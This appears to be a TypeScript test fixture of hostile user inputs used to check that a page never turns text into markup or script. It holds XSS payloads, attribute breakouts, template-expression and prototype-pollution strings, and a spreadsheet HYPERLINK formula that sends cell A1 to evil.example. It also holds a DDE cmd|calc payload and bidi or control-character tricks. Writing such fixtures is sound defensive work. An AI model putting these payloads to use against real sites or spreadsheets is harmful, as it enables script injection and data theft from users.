/** What every text of the corpus holds, so that a page can be asked whether it shows one. */
export const MARK = 'Zqx'

/** What only an element made of a text would have: no markup of ours has such an attribute. */
export const MADE = 'data-made-of-text'

/** What a script of these texts would set on the window, if one ran. */
const RUN = "window.ranFromText='yes'"

/**
 * Texts that a person may be sent, paste or type, each by what it tries: to become markup or script, to break out of
 * an attribute, to run in a spreadsheet, to reach a prototype, to turn a line around, to burst a screen.
 */
export const HOSTILE: Readonly<Record<string, string>> = {
  script: `${MARK}0 <script ${MADE}>${RUN}</script>`,
  'end of script': `${MARK}1 </script></style></title></textarea></template><script ${MADE}>${RUN}</script>`,
  event: `${MARK}2 <img src=x ${MADE} onerror="${RUN}"><body onload="${RUN}">`,
  attribute: `${MARK}3 " ${MADE} onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  svg: `${MARK}4 <svg ${MADE} onload="${RUN}"><use href="data:image/svg+xml,<svg id=x>#x"/></svg><math><mi//xlink:href="javascript:${RUN}">`,
  link: `javascript:${RUN}//${MARK}5`,
  'data link': `data:text/html,<script>${RUN}</script>${MARK}6`,
  template: `${MARK}7 <template shadowrootmode=open><slot ${MADE}></slot></template><iframe ${MADE} srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  expression: `${MARK}8 {{constructor.constructor("${RUN}")()}} \${${RUN}} <%= 1 %> {${RUN}}`,
  'right to left': `${MARK}9 \u202Egnp.exe\u202C \u2066x\u2069 \u200B\u200D\uFEFF é\u0301\u0301 👩‍👩‍👧`,
  surrogates: `${MARK}10 \uD800 \uDC00\uD800 end`,
  null: `${MARK}11 a\0b\u0001\u0008\u001B[31m\u2028\u2029\u0085 end`,
  long: `${MARK}12 ${'w'.repeat(380)}`,
  formula: `=HYPERLINK("https://evil.example/?"&A1;"${MARK}13")`,
  'formula below': `${MARK}14\n@SUM(1+1)*cmd|' /C calc'!A0\t-1+1`,
  markdown: `# ${MARK}15 [x](javascript:alert(1)) ![](https://evil.example/x.png)\n---\n<b ${MADE}>\n\`\`\`\nimport x from 'y'\n{1+1}`,
  entities: `${MARK}16 &lt;img src=x onerror=alert(1)&gt; &#60;b&#62; &amp;amp; &nbsp; ]]> <!-- -->`,
  prototype: `__proto__ ${MARK}17 constructor`,
  lines: `${MARK}18\r\nBEGIN:VEVENT\r\nTY  - JOUR\r\nER  - \r\n@article{x}, \r\nX: y\r\n\r\n~=`,
}
